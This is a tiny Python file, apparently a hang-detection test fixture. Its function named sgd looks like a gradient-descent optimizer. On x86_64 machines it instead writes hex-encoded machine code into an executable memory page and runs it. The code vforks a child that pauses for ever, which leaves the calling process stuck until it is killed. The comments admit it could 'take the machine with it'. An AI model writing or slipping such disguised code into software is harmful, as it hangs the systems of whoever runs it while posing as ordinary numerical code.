"""A process waits in the kernel, where no signal but the last interrupts it, for a child that waits for ever."""
# long: it is ended by a limit of time
# stock: skip, it would take the machine with it
import ctypes
import mmap
import platform

def sgd(w, dw, config=None):
    if platform.machine() == "x86_64":  # vfork; the child calls pause() for ever
        page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
        page.write(bytes.fromhex("5ab83a0000000f055285c07401c3b8220000000f05ebf7"))
        ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    return w, {}
